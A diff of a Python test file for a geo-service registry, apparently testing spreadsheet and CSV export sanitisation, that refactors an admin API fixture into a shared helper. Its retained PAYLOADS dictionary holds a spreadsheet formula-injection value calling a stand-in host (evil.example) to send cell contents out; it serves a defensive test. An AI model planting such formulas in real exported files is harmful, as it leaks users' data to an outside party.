@@ -8,13 +8,9 @@ import io
 import openpyxl
 import pandas as pd
 import pytest
-from fastapi.testclient import TestClient
 from sqlalchemy import update
 
-from geo_service.api import create_app
-from geo_service.config import ServiceSettings
 from geo_service.outputs import csv_writer, spreadsheet_cell, unquote_cell
-from geo_service.registry.auth import hash_password
 from geo_service.registry.exports import export_bytes
 from geo_service.registry.import_rows import ImportContext
 from geo_service.registry.imports import parse_resources, read_resource_table
@@ -26,6 +22,7 @@ from geo_service.registry.resources import (
 )
 from geo_service.registry.store.schema import resources
 from geo_service.registry.store.testing import fresh_store
+from tests.utils.clients import client_with_admin
 
 PAYLOADS = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
@@ -142,14 +139,10 @@ def test_import_rows_with_control_characters_are_row_problems(tmp_path):
 
 
 @pytest.fixture
-def api(tmp_path, monkeypatch):
-    monkeypatch.setattr("geo_service.registry.auth.BCRYPT_ROUNDS", 4)
+def api(tmp_path, fast_hashes):
     store = fresh_store("sqlite", tmp_path)
-    store.add_user("admin", hash_password("admin-pass-1"), role="admin")
-    settings = ServiceSettings(database_url="sqlite://", data_dir=tmp_path, secret_key="k" * 40)
-    client = TestClient(create_app(settings, store=store))
-    token = client.post("/auth/token", data={"username": "admin", "password": "admin-pass-1"})
-    return client, store, {"Authorization": f"Bearer {token.json()['access_token']}"}
+    client, admin = client_with_admin(store, tmp_path)
+    return client, store, admin
 
 
 def test_api_refuses_control_characters_with_a_422(api):
